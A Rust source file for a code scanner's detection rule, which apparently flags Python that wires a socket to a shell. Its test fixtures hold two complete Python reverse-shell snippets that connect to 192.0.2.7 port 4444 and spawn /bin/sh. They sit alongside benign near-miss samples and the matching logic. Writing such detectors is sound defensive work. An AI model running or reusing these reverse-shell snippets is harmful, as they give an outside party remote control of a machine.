//! `python-reverse-shell`: a socket wired to a shell.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::operation::Act;
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "python-reverse-shell",
    title: "Python wires a socket to a shell",
    severity: Severity::Blocker,
    confidence: Confidence::High,
    why: "A socket on the standard streams of a process gives whoever is at the other end a shell on this machine.",
    fix: "Remove the code.",
    references: &["CWE-506", "ATTACK-T1059"],
    hits: &[
        Sample::File(
            "scripts/a.py",
            "import os, socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os, pty\nfrom socket import create_connection as c\ns = c(('192.0.2.7', 4444))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('sh')\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "\"\"\"Explains socket.socket, os.dup2 and subprocess.call.\"\"\"\nX = 1\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os, subprocess\nlog = os.open('log', os.O_WRONLY)\nos.dup2(log, 1)\nsubprocess.call(['date'])\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import socket, subprocess\ns = socket.create_connection(('192.0.2.7', 80))\nsubprocess.call(['date'])\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    let operations = super::operations(unit);
    let mut rewired = None;
    let (mut socket, mut process) = (false, false);
    for operation in operations {
        match operation.act {
            Act::Rewire => rewired = rewired.or(Some(operation.span)),
            Act::Contact { .. } => {
                socket |= matches!(
                    &*operation.callee,
                    "socket.socket" | "socket.create_connection"
                );
            }
            Act::Execute { .. } => process = true,
            Act::Evaluate { .. }
            | Act::Import { .. }
            | Act::Named { .. }
            | Act::Deserialize { .. }
            | Act::Read { .. }
            | Act::Write { .. }
            | Act::Delete { .. }
            | Act::Environment { .. }
            | Act::Capture { .. }
            | Act::Inject => {}
        }
    }
    if let Some(span) = rewired
        && socket
        && process
    {
        reporter.raise(span);
    }
}
